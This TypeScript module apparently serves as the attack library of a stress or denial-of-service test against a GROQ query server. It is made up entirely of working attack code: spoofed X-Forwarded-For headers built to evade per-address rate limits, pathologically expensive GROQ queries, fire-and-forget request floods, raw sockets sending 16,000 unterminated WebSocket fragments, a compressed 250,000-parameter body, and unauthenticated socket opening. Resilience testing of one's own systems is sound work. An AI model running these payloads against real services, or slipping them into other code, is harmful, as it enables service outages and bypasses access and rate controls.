import {Agent, request} from 'node:http'
import {connect} from 'node:net'
import {gzipSync} from 'node:zlib'
import {WebSocket} from 'ws'

/** Records the outcome of a request: a status, a close code or an error. */
export type Note = (outcome: string) => void

const agent = new Agent({keepAlive: true})

/** Maximum number of requests without a response. It limits the attacker's own memory. */
const maxPending = 500
let pending = 0

/**
 * Returns the headers of a request that seems to come from one of fifty addresses through a trusted
 * proxy. With a single address, the limit per address would stop the attack.
 */
export const from = (n: number) => ({'x-forwarded-for': `203.0.113.${n % 50}`})

/** Rotates an array so that it starts with the element at index `n`. */
export const rotated = <T>(all: readonly T[], n: number) => {
  const first = n % all.length
  return [...all.slice(first), ...all.slice(0, first)]
}

/**
 * Returns a URL-encoded GROQ query, a different one for each `n`. Before encoding, most are about
 * 8 KB long.
 */
export function groq(n: number): string {
  const [query = ''] = rotated(
    [
      `${n}${'+1'.repeat(4_000)}`,
      `*[${n}]${'->a'.repeat(2_700)}`,
      `*[_id=="${n}"${'||_id=="a"'.repeat(800)}]`,
      `*[count(*[count(*[_id != ^._id && "${n}" != _id]) > ^.n]) > 0]`,
    ],
    n,
  )
  return encodeURIComponent(query)
}

/** Sends a request without waiting for the response. */
export function ask(
  url: string,
  headers: Record<string, string>,
  note: Note,
  body?: string | Uint8Array,
) {
  if (pending >= maxPending) return note('waited')
  pending++
  const sent = request(url, {method: body === undefined ? 'GET' : 'POST', headers, agent})
  sent.on('response', (response) => {
    note(String(response.statusCode))
    response.resume()
  })
  sent.on('error', () => note('lost'))
  sent.on('close', () => pending--)
  sent.end(body)
}

/** 16,000 fragments of one byte of a WebSocket message that does not end, as Latin-1. */
export const unfinishedFragments = `\u0001\u0081\0\0\0\0x${'\0\u0081\0\0\0\0x'.repeat(15_999)}`

/**
 * Opens a connection, sends bytes and disconnects after two seconds without having read a response.
 */
export function hostileBytes(origin: string, bytes: string, note: Note) {
  const {hostname, port} = new URL(origin)
  const socket = connect(Number(port), hostname)
  socket.pause()
  socket.write(bytes, 'latin1')
  socket.on('error', () => note('lost'))
  socket.on('close', () => note('closed'))
  setTimeout(() => socket.destroy(), 2_000)
}

/** A compressed query of 3.8 MB with 250,000 parameters whose names look like integers. */
export const manyParameters = gzipSync(
  JSON.stringify({
    query: '*[0]',
    params: Object.fromEntries(
      Array.from({length: 250_000}, (_, n) => [String(4_294_967_294 - n * 13), 0]),
    ),
  }),
)

/** Opens a presence socket without authorization. */
export function openSocket(lake: string, note: Note): WebSocket {
  const url = `${lake.replace('http', 'ws')}/v1/socket/production`
  const socket = new WebSocket(url, {origin: lake})
  socket.on('error', () => note('lost'))
  socket.on('close', (code) => note(`closed ${code}`))
  return socket
}
